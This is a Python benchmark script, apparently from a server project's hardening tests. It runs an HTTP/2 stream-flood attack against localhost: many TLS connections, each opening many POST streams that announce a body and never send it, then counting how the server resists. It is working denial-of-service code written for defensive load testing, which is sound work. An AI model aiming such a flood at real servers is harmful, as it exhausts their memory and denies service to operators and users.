#!/usr/bin/env python3
"""HTTP/2 stream flood for benches/h2-memory.sh (standard library only).

Opens CONNECTIONS TLS connections (ALPN h2) to 127.0.0.1:PORT and on each opens STREAMS POST
streams that announce a body (content-length) and never send it: the attack of the hardening
issue (66 connections x 250 streams took the reference-like server to 138 MB). Holds them for
HOLD seconds, prints how many streams the server answered early (503/413/reset) and closes.

usage: h2_attack.py PORT CONNECTIONS STREAMS HOLD
"""
import asyncio
import ssl
import struct
import sys

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(name, value):
    # HPACK "literal header field without indexing, new name", no Huffman coding (RFC 7541 6.2.2).
    def string(s):
        assert len(s) < 127
        return bytes([len(s)]) + s
    return b"\x00" + string(name) + string(value)


HEADERS = b"".join(
    literal(n, v)
    for n, v in [
        (b":method", b"POST"),
        (b":scheme", b"https"),
        (b":authority", b"localhost"),
        (b":path", b"/identity/certificate"),
        (b"content-length", b"60000"),
    ]
)


async def connection(port, streams, hold, counts):
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    try:
        reader, writer = await asyncio.open_connection("127.0.0.1", port, ssl=context)
    except OSError as error:
        counts["refused"] += 1
        counts.setdefault("errors", set()).add(type(error).__name__ + ": " + str(error)[:60])
        return
    writer.write(PREFACE + frame(0x4, 0, 0))
    for i in range(streams):
        writer.write(frame(0x1, 0x4, 1 + 2 * i, HEADERS))  # HEADERS, END_HEADERS, no END_STREAM
    try:
        await writer.drain()
        counts["open"] += 1

        async def read():
            while True:
                head = await reader.readexactly(9)
                length = int.from_bytes(head[:3], "big")
                kind, flags = head[3], head[4]
                payload = await reader.readexactly(length)
                if kind == 0x4 and not flags & 0x1:
                    writer.write(frame(0x4, 0x1, 0))  # SETTINGS ACK
                elif kind == 0x1:
                    counts["answered"] += 1
                elif kind == 0x3:
                    counts["reset"] += 1
                elif kind == 0x7:
                    counts["goaway"] += 1
                    return

        await asyncio.wait_for(read(), hold)
    except (asyncio.TimeoutError, asyncio.IncompleteReadError, OSError):
        pass
    writer.close()


async def main():
    port, connections, streams, hold = (int(a) for a in sys.argv[1:5])
    counts = {"open": 0, "refused": 0, "answered": 0, "reset": 0, "goaway": 0}
    await asyncio.gather(*(connection(port, streams, hold, counts) for _ in range(connections)))
    print(
        f"h2 attack: {connections} connections x {streams} streams: {counts['open']} connections opened, "
        f"{counts['refused']} refused, {counts['answered']} streams answered early, "
        f"{counts['reset']} reset, {counts['goaway']} GOAWAY"
    )
    if counts.get("errors"):
        print("connect errors:", "; ".join(sorted(counts["errors"])))


asyncio.run(main())
